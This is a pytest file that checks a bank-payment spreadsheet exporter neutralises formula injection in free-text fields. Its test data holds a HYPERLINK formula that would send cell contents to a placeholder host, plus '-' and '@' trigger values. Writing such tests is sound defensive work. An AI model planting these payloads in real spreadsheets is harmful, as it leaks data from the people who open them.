"""A bank file is safe to open and still what the bank reads (M4): a payee's name typed as a
formula is text after an apostrophe; the account stays its digits as text, the amount a number,
in every bank's layout."""

from __future__ import annotations

from decimal import Decimal

import pytest
from openpyxl import load_workbook

from fpa.programs import banks

ATTACK = '=HYPERLINK("http://x"&A1,"点击")'
LINE = banks.BankLine("L7", ATTACK, "6230901234567890123", "-长沙农商", Decimal("1200.50"), "@补贴")


@pytest.mark.parametrize("code", sorted(banks.FORMATS))
def test_a_bank_file_neutralises_free_text_and_keeps_account_and_amount(code, tmp_path):
    fmt = banks.FORMATS[code]
    banks.write(fmt, tmp_path / "bank.xlsx", "批次", [LINE])
    header, row = list(load_workbook(tmp_path / "bank.xlsx").active.iter_rows())
    cells = {label: cell for label, cell in zip(fmt.header(), row, strict=True)}
    by_getter = {get.__name__: cells[label] for label, get in fmt.columns}
    name = by_getter["_name"]
    assert (name.value, name.data_type, name.quotePrefix) == (ATTACK, "s", True)
    assert by_getter["_purpose"].value == "@补贴" and by_getter["_purpose"].quotePrefix
    assert by_getter["_account"].value == "6230901234567890123"
    assert by_getter["_account"].data_type == "s"
    assert by_getter["_amount"].value == 1200.5 and by_getter["_amount"].data_type == "n"
    assert by_getter["_ref"].value == "L7"
    if "_bank" in by_getter:
        assert by_getter["_bank"].value == "-长沙农商" and by_getter["_bank"].quotePrefix
